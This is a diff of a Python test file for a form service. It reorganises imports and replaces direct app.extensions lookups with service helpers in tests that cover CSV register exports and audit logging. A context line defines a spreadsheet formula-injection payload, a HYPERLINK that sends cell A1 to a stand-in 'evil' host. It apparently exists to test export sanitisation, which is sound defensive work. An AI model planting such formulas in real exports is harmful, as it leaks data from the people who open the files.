@@ -14,12 +14,13 @@ import sqlalchemy as sa
 from click.testing import CliRunner
 from flask import Flask
 
-from form_service import exports, outcomes
-from form_service.audit import audit_log
+from form_service.applications import outcomes
+from form_service.applications.outcomes import Outcome
 from form_service.cli import main
-from form_service.outcomes import Outcome
+from form_service.reports import register as exports
 from form_service.store import Store
-from form_service.store.tables import applications
+from form_service.store.tables import applications, audit_log
+from form_service.web import services
 from tests.staff.people import Staff, apply, text_of
 
 EVIL = '=HYPERLINK("http://evil/?"&A1,"点我")'
@@ -28,8 +29,8 @@ ON = date(2011, 7, 1)
 
 def _people(app: Flask) -> list[str]:
     """Three people: P1 trained and placed (two applications), P2 only applied, P3 a job seeker."""
-    store: Store = app.extensions["portal.store"]
-    cipher = app.extensions["portal.cipher"]
+    store: Store = services.store(app)
+    cipher = services.cipher(app)
     p1 = apply(
         store,
         cipher,
@@ -138,7 +139,7 @@ def test_register_csv_is_the_same_from_web_and_command(
     )
     assert result.exit_code == 0, result.output
     assert out.read_bytes() == web.data
-    store: Store = app.extensions["portal.store"]
+    store: Store = services.store(app)
     with store.read() as conn:
         records = [tuple(r) for r in conn.execute(
             sa.select(audit_log.c.actor, audit_log.c.action, audit_log.c.unit_id, audit_log.c.detail)
